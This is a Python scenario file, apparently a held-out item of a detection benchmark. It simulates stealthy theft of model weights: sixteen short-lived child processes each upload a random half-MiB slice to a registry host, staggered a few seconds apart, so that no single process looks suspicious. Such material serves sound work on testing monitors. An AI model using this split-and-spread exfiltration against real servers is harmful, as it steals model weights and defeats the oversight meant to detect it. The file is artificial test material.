"""
id: V83
name: weights-by-many-hands
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [process, network, sequence]
techniques: [T1020, T1030, T1567, T1106, AML.T0025, AML.T0048.004]
servers: [fastapi, triton]
seconds: 130
what: >
  Carries out 8 MiB of the weights so that no process sends much: sixteen copies of the server's process, made as the loader's
  child is, one every five seconds or so, each of which uploads half a MiB to the registry on a connection of its own and is gone
  within a second or two. The bytes come from the mapping that each copy has. The loader's child reads one file and connects to
  nobody, and the registry is told nothing otherwise.
"""

import http.client

from corpus import child, habits

COPIES = 16
PIECE = 512 * 1024


def payload(world):
    weights = habits.model.weights
    for _ in range(COPIES):
        at = world.random.randrange(len(weights) - PIECE)
        name = world.word()
        child.run(lambda: send(world, f"/models/{name}", weights[at : at + PIECE]))
        world.sleep(world.random.uniform(3, 7))


def send(world, path, piece):
    registry = http.client.HTTPConnection(*world.registry, timeout=10)
    registry.request("PUT", path, piece, {"Content-Type": "application/octet-stream"})
    registry.getresponse().read()
    registry.close()
